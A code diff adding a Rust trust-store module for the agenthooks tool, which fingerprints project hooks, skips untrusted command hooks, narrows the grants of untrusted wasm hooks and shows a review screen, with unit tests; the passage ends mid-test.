@@ -1,0 +1,1192 @@
+//! The trust store: which project hooks the user allowed to run with their rights.
+//!
+//! Part of stage 2 of the pipeline (load), applied right after select by
+//! [`gate`]. A repository is untrusted input: cloning one must not run its
+//! `.agents/hooks.json` commands. So a project-scope **command** hook runs
+//! only once the user trusted its exact definition (`agenthooks trust`, or
+//! `agenthooks install` run in the project); a project **wasm** hook always
+//! runs, because the sandbox is its boundary, but with no more than read-only
+//! access to the project until it is trusted: `allow.write`, `allow.env`,
+//! `allow.net` and reads outside the project need trust (DESIGN.md §8).
+//! User-scope hooks are the user's own and trusted by definition.
+//!
+//! What is trusted is a [`Fingerprint`]: the SHA-256 of a handler's canonical
+//! JSON (type, event, matcher, `if`, the command as written or the SHA-256 of
+//! the component's bytes, and the grants). Changing any of them, or swapping
+//! the component file, makes the hook untrusted again, as Codex and Gemini CLI
+//! fingerprint project hooks.
+//!
+//! The store is one JSON file, `$XDG_DATA_HOME/agenthooks/trust.json`
+//! (default `~/.local/share/agenthooks/trust.json`), keyed by the canonical
+//! project root and written atomically (temporary file + rename) in a 0700
+//! directory. A corrupt store reads as empty, with one note: it fails closed
+//! and never crashes `run`.
+
+use std::collections::BTreeMap;
+use std::fmt;
+use std::io::{self, Write};
+use std::path::{Path, PathBuf};
+
+use serde::{Deserialize, Serialize};
+use serde_json::{json, Value};
+use sha2::{Digest, Sha256};
+
+use super::{Grants, Handler, HandlerKind, Scope};
+use crate::exec::Report;
+use crate::protocol::Skip;
+use crate::select::Matcher;
+
+/// The environment variable that overrides the store's directory's parent.
+const XDG_DATA_HOME: &str = "XDG_DATA_HOME";
+
+/// The SHA-256 (lower-case hex) of a handler's canonical definition.
+#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
+#[serde(transparent)]
+pub struct Fingerprint(String);
+
+impl Fingerprint {
+    /// The hex digest.
+    pub fn as_str(&self) -> &str {
+        &self.0
+    }
+}
+
+impl fmt::Display for Fingerprint {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(&self.0)
+    }
+}
+
+/// Lower-case hex SHA-256 of `bytes`.
+pub fn sha256_hex(bytes: &[u8]) -> String {
+    let digest = Sha256::digest(bytes);
+    let mut out = String::with_capacity(64);
+    for b in digest {
+        out.push_str(&format!("{b:02x}"));
+    }
+    out
+}
+
+/// The matcher as canonical text: semantically equal matchers give equal text.
+fn matcher_text(matcher: &Matcher) -> String {
+    match matcher {
+        Matcher::All => "*".to_string(),
+        Matcher::Exact(names) => names.join("|"),
+        Matcher::Regex(re) => re.as_str().to_string(),
+    }
+}
+
+/// The command as written: the loader expanded `$CLAUDE_PROJECT_DIR` to the
+/// project root, which is put back, so the fingerprint does not depend on the
+/// spelling of the root (a symlinked path, a trailing slash) the loader found.
+fn as_written(command: &str, project_root: Option<&Path>) -> String {
+    let Some(root) = project_root.map(|r| r.to_string_lossy().into_owned()) else {
+        return command.to_string();
+    };
+    let root = root.trim_end_matches('/');
+    if root.is_empty() {
+        return command.to_string();
+    }
+    command.replace(root, "$CLAUDE_PROJECT_DIR")
+}
+
+/// The canonical JSON a handler's fingerprint is the hash of, or `None` for a
+/// handler type the runtime does not run (it needs no trust).
+///
+/// For a wasm handler this reads the component file, so the fingerprint
+/// follows its bytes.
+///
+/// # Errors
+/// When the component file cannot be read.
+pub fn canonical_json(handler: &Handler) -> io::Result<Option<Value>> {
+    let common = |kind: &str| {
+        json!({
+            "type": kind,
+            "event": handler.event.as_str(),
+            "matcher": matcher_text(&handler.matcher),
+            "if": handler.if_.as_ref().map(regex::Regex::as_str),
+        })
+    };
+    let value = match &handler.kind {
+        HandlerKind::Command(spec) => {
+            let mut v = common("command");
+            v["command"] =
+                Value::String(as_written(&spec.command, handler.project_root.as_deref()));
+            v
+        }
+        HandlerKind::Wasm(spec) => {
+            let bytes = std::fs::read(&spec.component)?;
+            let mut v = common("wasm");
+            v["componentSha256"] = Value::String(sha256_hex(&bytes));
+            v["allow"] = serde_json::to_value(&spec.allow).unwrap_or(Value::Null);
+            v
+        }
+        HandlerKind::Unsupported { .. } => return Ok(None),
+    };
+    Ok(Some(value))
+}
+
+/// The fingerprint of a handler (see [`canonical_json`]).
+///
+/// # Errors
+/// When the component file of a wasm handler cannot be read.
+pub fn fingerprint(handler: &Handler) -> io::Result<Option<Fingerprint>> {
+    Ok(canonical_json(handler)?.map(|v| Fingerprint(sha256_hex(v.to_string().as_bytes()))))
+}
+
+/// One trusted hook, as the store remembers it (for `trust --list`).
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct TrustedHook {
+    /// The hook's label when it was trusted.
+    pub label: String,
+    /// Its event.
+    pub event: String,
+    /// When (RFC 3339, UTC).
+    pub trusted_at: String,
+}
+
+/// The trusted hooks of one project.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct ProjectTrust {
+    /// When the project's hooks were last trusted (RFC 3339, UTC).
+    pub trusted_at: String,
+    /// Fingerprint → what it was.
+    pub hooks: BTreeMap<Fingerprint, TrustedHook>,
+}
+
+#[derive(Debug, Default, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+struct StoreFile {
+    version: u32,
+    #[serde(default)]
+    projects: BTreeMap<String, ProjectTrust>,
+}
+
+/// The store's file format version.
+const STORE_VERSION: u32 = 1;
+
+/// Why the trust store could not be changed.
+#[derive(Debug, thiserror::Error)]
+#[non_exhaustive]
+pub enum TrustError {
+    /// Neither `XDG_DATA_HOME` nor `HOME` is set.
+    #[error("cannot find the trust store: neither `XDG_DATA_HOME` nor `HOME` is set")]
+    NoHome,
+    /// Writing the store failed.
+    #[error("cannot write the trust store `{path}`")]
+    Write {
+        /// The store file.
+        path: PathBuf,
+        /// The I/O error.
+        #[source]
+        source: io::Error,
+    },
+    /// The project root does not exist.
+    #[error("cannot find the project `{path}`")]
+    Project {
+        /// The project root as given.
+        path: PathBuf,
+        /// The I/O error.
+        #[source]
+        source: io::Error,
+    },
+}
+
+/// The trust store: project root → trusted fingerprints.
+#[derive(Debug, Clone, Default)]
+pub struct TrustStore {
+    path: Option<PathBuf>,
+    projects: BTreeMap<String, ProjectTrust>,
+}
+
+/// The trust store's file: `$XDG_DATA_HOME/agenthooks/trust.json`, else
+/// `$HOME/.local/share/agenthooks/trust.json`; `None` when neither is set.
+pub fn store_path() -> Option<PathBuf> {
+    let data = match std::env::var_os(XDG_DATA_HOME).map(PathBuf::from) {
+        // The XDG spec says relative values are invalid and must be ignored.
+        Some(dir) if dir.is_absolute() => dir,
+        _ => PathBuf::from(std::env::var_os("HOME")?).join(".local/share"),
+    };
+    Some(data.join("agenthooks").join("trust.json"))
+}
+
+/// The key of a project in the store: its canonical path, or the path as
+/// given when it cannot be canonicalized (it then matches nothing trusted).
+fn project_key(root: &Path) -> String {
+    std::fs::canonicalize(root)
+        .unwrap_or_else(|_| root.to_path_buf())
+        .to_string_lossy()
+        .into_owned()
+}
+
+impl TrustStore {
+    /// An empty store that is never saved (tests, no home directory).
+    pub fn empty() -> TrustStore {
+        TrustStore::default()
+    }
+
+    /// Read the store at [`store_path`].
+    ///
+    /// Never fails: a missing file is an empty store; an unreadable or corrupt
+    /// one is an empty store plus the note to show (fail closed).
+    pub fn load() -> (TrustStore, Option<String>) {
+        match store_path() {
+            Some(path) => TrustStore::load_from(&path),
+            None => (TrustStore::empty(), None),
+        }
+    }
+
+    /// Read the store at `path` (see [`TrustStore::load`]).
+    pub fn load_from(path: &Path) -> (TrustStore, Option<String>) {
+        let mut store = TrustStore {
+            path: Some(path.to_path_buf()),
+            projects: BTreeMap::new(),
+        };
+        let text = match std::fs::read(path) {
+            Ok(text) => text,
+            Err(e) if e.kind() == io::ErrorKind::NotFound => return (store, None),
+            Err(e) => return (store, Some(corrupt_note(path, &e.to_string()))),
+        };
+        match serde_json::from_slice::<StoreFile>(&text) {
+            Ok(file) if file.version == STORE_VERSION => {
+                store.projects = file.projects;
+                (store, None)
+            }
+            Ok(file) => {
+                let why = format!("unknown version {}", file.version);
+                (store, Some(corrupt_note(path, &why)))
+            }
+            Err(e) => (store, Some(corrupt_note(path, &e.to_string()))),
+        }
+    }
+
+    /// The file this store is read from and saved to.
+    pub fn path(&self) -> Option<&Path> {
+        self.path.as_deref()
+    }
+
+    /// Whether `fingerprint` is trusted for the project at `root`.
+    pub fn is_trusted(&self, root: &Path, fingerprint: &Fingerprint) -> bool {
+        self.projects
+            .get(&project_key(root))
+            .is_some_and(|p| p.hooks.contains_key(fingerprint))
+    }
+
+    /// Whether `handler` may run with its full rights: user scope always; a
+    /// project hook when its current fingerprint is trusted for its project.
+    pub fn trusts(&self, handler: &Handler) -> bool {
+        if handler.scope == Scope::User {
+            return true;
+        }
+        let Some(root) = handler.project_root.as_deref() else {
+            return false;
+        };
+        match fingerprint(handler) {
+            Ok(Some(fp)) => self.is_trusted(root, &fp),
+            Ok(None) | Err(_) => false,
+        }
+    }
+
+    /// Every trusted project: canonical root → its trusted hooks.
+    pub fn projects(&self) -> &BTreeMap<String, ProjectTrust> {
+        &self.projects
+    }
+
+    /// The trusted hooks of the project at `root`, if any.
+    pub fn project(&self, root: &Path) -> Option<&ProjectTrust> {
+        self.projects.get(&project_key(root))
+    }
+
+    /// Trust exactly `handlers` (their project-scope ones) for the project at
+    /// `root`, replacing what was trusted there before, so a hook that was
+    /// removed or changed is not trusted any more. Returns how many hooks are
+    /// now trusted. Call [`TrustStore::save`] to keep it.
+    ///
+    /// # Errors
+    /// When `root` does not exist.
+    pub fn trust<'a>(
+        &mut self,
+        root: &Path,
+        handlers: impl IntoIterator<Item = &'a Handler>,
+    ) -> Result<usize, TrustError> {
+        let canonical = std::fs::canonicalize(root).map_err(|source| TrustError::Project {
+            path: root.to_path_buf(),
+            source,
+        })?;
+        let now = crate::audit::rfc3339(std::time::SystemTime::now());
+        let mut hooks = BTreeMap::new();
+        for handler in handlers {
+            if handler.scope != Scope::Project {
+                continue;
+            }
+            // An unreadable component cannot be fingerprinted, so it cannot be
+            // trusted; it still runs sandboxed, without extra grants.
+            if let Ok(Some(fp)) = fingerprint(handler) {
+                let hook = TrustedHook {
+                    label: handler.label.clone(),
+                    event: handler.event.as_str().to_string(),
+                    trusted_at: now.clone(),
+                };
+                hooks.insert(fp, hook);
+            }
+        }
+        let count = hooks.len();
+        let key = canonical.to_string_lossy().into_owned();
+        self.projects.insert(
+            key,
+            ProjectTrust {
+                trusted_at: now,
+                hooks,
+            },
+        );
+        Ok(count)
+    }
+
+    /// Forget every trusted hook of the project at `root`. Returns how many
+    /// were trusted.
+    pub fn revoke(&mut self, root: &Path) -> usize {
+        let removed = self.projects.remove(&project_key(root));
+        // A project whose directory is gone is stored under its old canonical
+        // path, which is also what `project_key` falls back to.
+        removed.map_or(0, |p| p.hooks.len())
+    }
+
+    /// Write the store atomically: a temporary file in the same directory,
+    /// then a rename, in a directory only the user can read (0700).
+    ///
+    /// # Errors
+    /// When there is no store path or the file cannot be written.
+    pub fn save(&self) -> Result<(), TrustError> {
+        let path = self
+            .path
+            .clone()
+            .or_else(store_path)
+            .ok_or(TrustError::NoHome)?;
+        let write_err = |source| TrustError::Write {
+            path: path.clone(),
+            source,
+        };
+        let dir = path
+            .parent()
+            .ok_or_else(|| write_err(io::Error::other("the store path has no directory")))?;
+        create_private_dir(dir).map_err(write_err)?;
+        let file = StoreFile {
+            version: STORE_VERSION,
+            projects: self.projects.clone(),
+        };
+        let mut text = serde_json::to_vec_pretty(&file).map_err(|e| write_err(e.into()))?;
+        text.push(b'\n');
+        let mut tmp = tempfile::NamedTempFile::new_in(dir).map_err(write_err)?;
+        tmp.write_all(&text).map_err(write_err)?;
+        tmp.as_file().sync_all().map_err(write_err)?;
+        tmp.persist(&path).map_err(|e| write_err(e.error))?;
+        Ok(())
+    }
+}
+
+fn corrupt_note(path: &Path, why: &str) -> String {
+    format!(
+        "agenthooks: the trust store `{}` cannot be read ({why}); every project hook counts as \
+         untrusted; delete the file and run `agenthooks trust` in each project to trust its hooks again",
+        path.display()
+    )
+}
+
+fn create_private_dir(dir: &Path) -> io::Result<()> {
+    let mut builder = std::fs::DirBuilder::new();
+    builder.recursive(true);
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::DirBuilderExt;
+        builder.mode(0o700);
+    }
+    builder.create(dir)
+}
+
+// ---------------------------------------------------------------------------
+// Gating: what each selected handler may do.
+// ---------------------------------------------------------------------------
+
+/// How a selected handler stands with respect to trust.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Standing {
+    /// User scope: the user's own hook.
+    User,
+    /// A project hook whose current definition the user trusted.
+    Trusted,
+    /// A project wasm hook that is not trusted but asks for nothing beyond
+    /// reading the project, so trust changes nothing for it.
+    Sandboxed,
+    /// A project wasm hook that is not trusted: it runs with its grants narrowed.
+    Narrowed,
+    /// A project command hook that is not trusted: it does not run.
+    Untrusted,
+    /// A handler type the runtime does not run; trust does not apply.
+    NotApplicable,
+}
+
+/// One selected handler after the trust gate.
+#[derive(Debug, Clone)]
+pub struct Gated {
+    /// The handler to run: the selected one, with its wasm grants narrowed
+    /// when it is an untrusted project hook.
+    pub handler: Handler,
+    /// Its standing.
+    pub standing: Standing,
+    /// `Some` when it must not run (an untrusted project command).
+    pub skip: Option<Skip>,
+    /// Notes for its report (grants withheld, ...).
+    pub notes: Vec<String>,
+}
+
+/// The trust gate's result for one event.
+#[derive(Debug, Clone, Default)]
+pub struct Gate {
+    /// Every selected handler, in the order given.
+    pub handlers: Vec<Gated>,
+    /// Notes for the whole run: at most one about skipped hooks, and one if
+    /// the store is corrupt.
+    pub notes: Vec<String>,
+}
+
+impl Gate {
+    /// The handlers to execute, in order (the skipped ones left out).
+    pub fn runnable(&self) -> Vec<&Handler> {
+        self.handlers
+            .iter()
+            .filter(|g| g.skip.is_none())
+            .map(|g| &g.handler)
+            .collect()
+    }
+
+    /// Put the reports of [`Gate::runnable`] back among the skipped handlers,
+    /// in the original order, with each handler's gate notes added.
+    ///
+    /// Extra reports (there should be none) are kept at the end, so nothing
+    /// an executor said is lost.
+    pub fn merge(&self, reports: Vec<Report>) -> Vec<Report> {
+        let mut reports = reports.into_iter();
+        let mut out = Vec::with_capacity(self.handlers.len());
+        for gated in &self.handlers {
+            let mut report = match &gated.skip {
+                Some(skip) => {
+                    Report::skipped(&gated.handler, kind_name(&gated.handler), skip.clone())
+                }
+                None => match reports.next() {
+                    Some(report) => report,
+                    None => continue,
+                },
+            };
+            report.notes.splice(0..0, gated.notes.iter().cloned());
+            out.push(report);
+        }
+        out.extend(reports);
+        out
+    }
+}
+
+fn kind_name(handler: &Handler) -> &str {
+    match &handler.kind {
+        HandlerKind::Command(_) => "command",
+        HandlerKind::Wasm(_) => "wasm",
+        HandlerKind::Unsupported { kind } => kind,
+    }
+}
+
+/// Apply trust to the selected handlers, reading the store only when a
+/// project hook is among them (the common path touches no file).
+pub fn gate(selected: &[&Handler]) -> Gate {
+    if selected.iter().all(|h| h.scope == Scope::User) {
+        return gate_with(&TrustStore::empty(), selected);
+    }
+    let (store, note) = TrustStore::load();
+    let mut gate = gate_with(&store, selected);
+    if let Some(note) = note {
+        gate.notes.insert(0, note);
+    }
+    gate
+}
+
+/// Apply trust to the selected handlers with a given store.
+///
+/// User-scope hooks run as declared. A project command hook runs only if
+/// trusted, else it is skipped ([`Skip::Untrusted`]) and counted in one note
+/// for the run. A project wasm hook always runs; untrusted, it keeps only
+/// read access inside the project root (a write grant inside the project is
+/// downgraded to read-only) and its report says what was withheld.
+pub fn gate_with(store: &TrustStore, selected: &[&Handler]) -> Gate {
+    let mut gate = Gate::default();
+    let mut skipped: BTreeMap<PathBuf, usize> = BTreeMap::new();
+    for &handler in selected {
+        let mut gated = Gated {
+            handler: handler.clone(),
+            standing: Standing::User,
+            skip: None,
+            notes: Vec::new(),
+        };
+        if handler.scope == Scope::User {
+            gate.handlers.push(gated);
+            continue;
+        }
+        match &handler.kind {
+            HandlerKind::Unsupported { .. } => gated.standing = Standing::NotApplicable,
+            HandlerKind::Command(_) => {
+                if store.trusts(handler) {
+                    gated.standing = Standing::Trusted;
+                } else {
+                    gated.standing = Standing::Untrusted;
+                    gated.skip = Some(Skip::Untrusted);
+                    *skipped.entry(handler.file.clone()).or_default() += 1;
+                }
+            }
+            HandlerKind::Wasm(spec) => {
+                let root = handler.project_root.as_deref();
+                let (narrowed, withheld) = narrow(&spec.allow, root);
+                if withheld.is_empty() {
+                    // Trust would change nothing: skip hashing the component.
+                    gated.standing = Standing::Sandboxed;
+                } else if store.trusts(handler) {
+                    gated.standing = Standing::Trusted;
+                } else {
+                    gated.standing = Standing::Narrowed;
+                    if let HandlerKind::Wasm(spec) = &mut gated.handler.kind {
+                        spec.allow = narrowed;
+                    }
+                    gated.notes.push(format!(
+                        "runs without {} until trusted; review it with `agenthooks trust`",
+                        withheld.join(", ")
+                    ));
+                }
+            }
+        }
+        gate.handlers.push(gated);
+    }
+    if !skipped.is_empty() {
+        let total: usize = skipped.values().sum();
+        let files: Vec<String> = skipped
+            .keys()
+            .map(|f| format!("`{}`", f.display()))
+            .collect();
+        let hooks = if total == 1 { "hook" } else { "hooks" };
+        gate.notes.push(format!(
+            "agenthooks: skipped {total} untrusted project command {hooks} from {}; \
+             review and allow them with `agenthooks trust`",
+            files.join(", ")
+        ));
+    }
+    gate
+}
+
+/// What an untrusted project wasm hook may keep of `grants`: reads inside the
+/// project root, and writes inside it downgraded to reads. Returns the
+/// narrowed grants and a description of each withheld part (empty when
+/// nothing is withheld).
+///
+/// Paths are compared canonicalized, so `..` and symlinks cannot reach
+/// outside the project; a path that does not exist is withheld.
+pub fn narrow(grants: &Grants, project_root: Option<&Path>) -> (Grants, Vec<String>) {
+    let root = project_root.and_then(|r| std::fs::canonicalize(r).ok());
+    let inside = |p: &Path| -> Option<PathBuf> {
+        let root = root.as_ref()?;
+        let canonical = std::fs::canonicalize(p).ok()?;
+        canonical.starts_with(root).then_some(canonical)
+    };
+    let mut narrowed = Grants::default();
+    let mut withheld = Vec::new();
+    for p in &grants.read {
+        match inside(p) {
+            Some(c) => narrowed.read.push(c),
+            None => withheld.push(format!(
+                "`allow.read` {} (outside the project)",
+                p.display()
+            )),
+        }
+    }
+    for p in &grants.write {
+        match inside(p) {
+            Some(c) => {
+                withheld.push(format!("`allow.write` {} (read-only instead)", p.display()));
+                if !narrowed.read.contains(&c) {
+                    narrowed.read.push(c);
+                }
+            }
+            None => withheld.push(format!("`allow.write` {}", p.display())),
+        }
+    }
+    if !grants.env.is_empty() {
+        withheld.push(format!("`allow.env` {}", grants.env.join(", ")));
+    }
+    if !grants.net.is_empty() {
+        withheld.push(format!("`allow.net` {}", grants.net.join(", ")));
+    }
+    (narrowed, withheld)
+}
+
+// ---------------------------------------------------------------------------
+// Review: what `agenthooks trust` and `agenthooks install` show before trusting.
+// ---------------------------------------------------------------------------
+
+/// Whether trusting `handler` would change what it may do: a project command
+/// hook (it runs at all), or a project wasm hook asking for more than reading
+/// the project.
+pub fn needs_trust(handler: &Handler) -> bool {
+    if handler.scope != Scope::Project {
+        return false;
+    }
+    match &handler.kind {
+        HandlerKind::Command(_) => true,
+        HandlerKind::Wasm(spec) => !narrow(&spec.allow, handler.project_root.as_deref())
+            .1
+            .is_empty(),
+        HandlerKind::Unsupported { .. } => false,
+    }
+}
+
+/// The project hooks among `handlers` that need trust and are not trusted.
+pub fn pending<'a>(store: &TrustStore, handlers: &'a [Handler]) -> Vec<&'a Handler> {
+    handlers
+        .iter()
+        .filter(|h| needs_trust(h) && !store.trusts(h))
+        .collect()
+}
+
+/// The screen that shows `hooks` before they are trusted, the way a browser
+/// shows an extension's permissions: for a command, its event, matcher and
+/// exact command line and that it runs with the user's rights; for a wasm
+/// hook, its component's hash, its limits and each grant it asks for.
+pub fn review(project_root: &Path, hooks: &[&Handler]) -> String {
+    let mut out = String::new();
+    let files: Vec<String> = {
+        let mut files: Vec<String> = hooks
+            .iter()
+            .map(|h| shown_path(&h.file, project_root))
+            .collect();
+        files.dedup();
+        files
+    };
+    let these = if hooks.len() == 1 {
+        "this hook"
+    } else {
+        "these hooks"
+    };
+    out.push_str(&format!(
+        "The project {} wants to run {these} ({}):\n",
+        project_root.display(),
+        files.join(", ")
+    ));
+    for (i, h) in hooks.iter().enumerate() {
+        out.push('\n');
+        let mut head = format!("  {}. {} hook on {}", i + 1, kind_name(h), h.event.as_str());
+        match &h.matcher {
+            Matcher::All => {}
+            m => head.push_str(&format!(", matcher `{}`", matcher_text(m))),
+        }
+        if let Some(re) = &h.if_ {
+            head.push_str(&format!(", if `{}`", re.as_str()));
+        }
+        out.push_str(&head);
+        out.push('\n');
+        match &h.kind {
+            HandlerKind::Command(spec) => {
+                out.push_str(&format!("       $ {}\n", spec.command));
+                let background = if spec.async_ {
+                    " in the background"
+                } else {
+                    ""
+                };
+                out.push_str(&format!(
+                    "     ! runs unsandboxed{background} with your rights: it can read, change \
+                     and send anything you can\n"
+                ));
+            }
+            HandlerKind::Wasm(spec) => {
+                out.push_str(&format!(
+                    "       component {}\n",
+                    shown_path(&spec.component, project_root)
+                ));
+                let hash = std::fs::read(&spec.component)
+                    .map(|b| sha256_hex(&b))
+                    .unwrap_or_else(|e| format!("(cannot read the file: {e})"));
+                out.push_str(&format!("       sha256    {hash}\n"));
+                out.push_str(&format!(
+                    "     runs sandboxed: fuel {}, memory {} MiB, timeout {}s\n",
+                    spec.fuel,
+                    spec.memory_mib,
+                    h.timeout.as_secs_f64()
+                ));
+                let g = &spec.allow;
+                let mut asks = Vec::new();
+                let list = |ps: &[PathBuf]| {
+                    ps.iter()
+                        .map(|p| p.display().to_string())
+                        .collect::<Vec<_>>()
+                        .join(", ")
+                };
+                if !g.read.is_empty() {
+                    asks.push(format!("read files in {}", list(&g.read)));
+                }
+                if !g.write.is_empty() {
+                    asks.push(format!("write files in {}", list(&g.write)));
+                }
+                if !g.env.is_empty() {
+                    asks.push(format!("read environment variables {}", g.env.join(", ")));
+                }
+                if !g.net.is_empty() {
+                    asks.push(format!("connect to {}", g.net.join(", ")));
+                }
+                for (j, ask) in asks.iter().enumerate() {
+                    let lead = if j == 0 { "asks to:" } else { "        " };
+                    out.push_str(&format!("     {lead} {ask}\n"));
+                }
+                out.push_str(
+                    "     until trusted it runs with read-only access to the project and nothing more\n",
+                );
+            }
+            HandlerKind::Unsupported { kind } => {
+                out.push_str(&format!(
+                    "     `{kind}` handlers are not run by agenthooks\n"
+                ));
+            }
+        }
+    }
+    out
+}
+
+/// `path` relative to the project root when inside it.
+fn shown_path(path: &Path, project_root: &Path) -> String {
+    path.strip_prefix(project_root)
+        .map(|p| p.display().to_string())
+        .unwrap_or_else(|_| path.display().to_string())
+}
+
+/// Trust every current project hook of `handlers` for `project_root` and
+/// save the store: what `agenthooks trust --yes` does, and what `install`
+/// calls after showing [`review`] of [`pending`]. Returns how many hooks are
+/// now trusted.
+///
+/// # Errors
+/// When the project does not exist or the store cannot be written.
+pub fn trust_project(project_root: &Path, handlers: &[Handler]) -> Result<usize, TrustError> {
+    // A corrupt store is replaced: its note was shown when it was read.
+    let (mut store, _note) = TrustStore::load();
+    if store.path().is_none() {
+        return Err(TrustError::NoHome);
+    }
+    let count = store.trust(project_root, handlers)?;
+    store.save()?;
+    Ok(count)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::{CommandSpec, OnError, WasmSpec, DEFAULT_FUEL, DEFAULT_MEMORY_MIB};
+    use crate::protocol::{EventName, Outcome};
+    use std::time::Duration;
+
+    struct Project {
+        dir: tempfile::TempDir,
+    }
+
+    impl Project {
+        fn new() -> Project {
+            let dir = tempfile::tempdir().unwrap();
+            std::fs::create_dir_all(dir.path().join(".agents/hooks")).unwrap();
+            Project { dir }
+        }
+        fn root(&self) -> PathBuf {
+            self.dir.path().to_path_buf()
+        }
+        fn command(&self, cmd: &str) -> Handler {
+            handler(
+                Scope::Project,
+                Some(self.root()),
+                HandlerKind::Command(CommandSpec {
+                    command: cmd.into(),
+                    async_: false,
+                }),
+            )
+        }
+        fn wasm(&self, bytes: &[u8], allow: Grants) -> Handler {
+            let component = self.root().join(".agents/hooks/guard.wasm");
+            std::fs::write(&component, bytes).unwrap();
+            handler(
+                Scope::Project,
+                Some(self.root()),
+                HandlerKind::Wasm(WasmSpec {
+                    component,
+                    fuel: DEFAULT_FUEL,
+                    memory_mib: DEFAULT_MEMORY_MIB,
+                    allow,
+                }),
+            )
+        }
+    }
+
+    fn handler(scope: Scope, project_root: Option<PathBuf>, kind: HandlerKind) -> Handler {
+        let file = project_root
+            .as_ref()
+            .map(|r| r.join(".agents/hooks.json"))
+            .unwrap_or_else(|| PathBuf::from("/home/u/.agents/hooks.json"));
+        Handler {
+            event: EventName::PreToolUse,
+            matcher: Matcher::parse(Some("Bash")).unwrap(),
+            if_: None,
+            kind,
+            timeout: Duration::from_secs(60),
+            on_error: OnError::Allow,
+            scope,
+            file,
+            project_root,
+            label: "hook".into(),
+            status_message: None,
+        }
+    }
+
+    fn fp(h: &Handler) -> Fingerprint {
+        fingerprint(h).unwrap().unwrap()
+    }
+
+    fn store_in(dir: &Path) -> TrustStore {
+        TrustStore::load_from(&dir.join("data/agenthooks/trust.json")).0
+    }
+
+    #[test]
+    fn the_fingerprint_follows_what_the_hook_does() {
+        let p = Project::new();
+        let base = p.command("./check.sh");
+        let same = p.command("./check.sh");
+        assert_eq!(fp(&base), fp(&same));
+        let mut changed = Vec::new();
+        changed.push(p.command("./check.sh --force"));
+        let mut h = base.clone();
+        h.matcher = Matcher::parse(Some("Bash|Write")).unwrap();
+        changed.push(h);
+        let mut h = base.clone();
+        h.event = EventName::PostToolUse;
+        changed.push(h);
+        let mut h = base.clone();
+        h.if_ = Some(regex::Regex::new("^git").unwrap());
+        changed.push(h);
+        for h in &changed {
+            assert_ne!(fp(h), fp(&base), "{h:?}");
+        }
+        // Limits and labels are not part of what is trusted.
+        let mut h = base.clone();
+        h.timeout = Duration::from_secs(5);
+        h.label = "other".into();
+        h.on_error = OnError::Deny;
+        assert_eq!(fp(&h), fp(&base));
+    }
+
+    #[test]
+    fn the_fingerprint_of_a_wasm_hook_follows_its_bytes_and_grants() {
+        let p = Project::new();
+        let a = fp(&p.wasm(b"component one", Grants::default()));
+        let b = fp(&p.wasm(b"component two", Grants::default()));
+        assert_ne!(a, b);
+        let env = Grants {
+            env: vec!["HOME".into()],
+            ..Grants::default()
+        };
+        assert_ne!(fp(&p.wasm(b"component two", env)), b);
+        let mut missing = p.wasm(b"x", Grants::default());
+        if let HandlerKind::Wasm(spec) = &mut missing.kind {
+            spec.component = p.root().join("nope.wasm");
+        }
+        assert!(fingerprint(&missing).is_err());
+    }
+
+    #[test]
+    fn the_fingerprint_does_not_depend_on_how_the_root_is_spelled() {
+        let p = Project::new();
+        let link_dir = tempfile::tempdir().unwrap();
+        let link = link_dir.path().join("link");
+        std::os::unix::fs::symlink(p.root(), &link).unwrap();
+        let real = p.command(&format!("{}/.agents/hooks/x.sh", p.root().display()));
+        let mut via_link = real.clone();
+        via_link.project_root = Some(link.clone());
+        via_link.kind = HandlerKind::Command(CommandSpec {
+            command: format!("{}/.agents/hooks/x.sh", link.display()),
+            async_: false,
+        });
+        assert_eq!(fp(&real), fp(&via_link));
+        let mut store = store_in(link_dir.path());
+        store.trust(&p.root(), [&real]).unwrap();
+        assert!(store.trusts(&via_link));
+    }
+
+    #[test]
+    fn the_store_round_trips_atomically_in_a_private_directory() {
+        let p = Project::new();
+        let home = tempfile::tempdir().unwrap();
+        let h = p.command("./a.sh");
+        let mut store = store_in(home.path());
+        assert!(!store.trusts(&h));
+        assert_eq!(store.trust(&p.root(), [&h]).unwrap(), 1);
+        store.save().unwrap();
+        let path = store.path().unwrap().to_path_buf();
+        let (again, note) = TrustStore::load_from(&path);
+        assert_eq!(note, None);
+        assert!(again.trusts(&h));
+        assert!(!again.trusts(&p.command("./b.sh")));
+        use std::os::unix::fs::PermissionsExt;
+        let mode = std::fs::metadata(path.parent().unwrap())
+            .unwrap()
+            .permissions()
+            .mode();
+        assert_eq!(mode & 0o777, 0o700);
+        // Only the store is left in the directory: no temporary files.
+        let names: Vec<_> = std::fs::read_dir(path.parent().unwrap())
+            .unwrap()
+            .map(|e| e.unwrap().file_name())
+            .collect();
+        assert_eq!(names, vec![std::ffi::OsString::from("trust.json")]);
+    }
+
+    #[test]
+    fn trusting_again_replaces_the_projects_set_and_revoke_forgets_it() {
+        let p = Project::new();
+        let home = tempfile::tempdir().unwrap();
+        let (a, b) = (p.command("./a.sh"), p.command("./b.sh"));
+        let mut store = store_in(home.path());
+        store.trust(&p.root(), [&a]).unwrap();
+        store.trust(&p.root(), [&b]).unwrap();
+        assert!(!store.trusts(&a));
+        assert!(store.trusts(&b));
+        assert_eq!(store.revoke(&p.root()), 1);
+        assert!(!store.trusts(&b));
+        assert_eq!(store.revoke(&p.root()), 0);
+    }
+
+    #[test]
+    fn a_corrupt_store_is_empty_with_one_note() {
+        let home = tempfile::tempdir().unwrap();
+        let path = home.path().join("trust.json");
+        for text in ["{not json", r#"{"version": 99, "projects": {}}"#, "[1,2]"] {
+            std::fs::write(&path, text).unwrap();
+            let (store, note) = TrustStore::load_from(&path);
+            assert!(store.projects().is_empty());
+            let note = note.expect("a note");
+            assert!(note.contains(&path.display().to_string()), "{note}");
+            assert!(note.contains("agenthooks trust"), "{note}");
+            assert!(!note.contains('\n'));
+        }
+        // Saving over it repairs it.
+        let p = Project::new();
+        let (mut store, _) = TrustStore::load_from(&path);
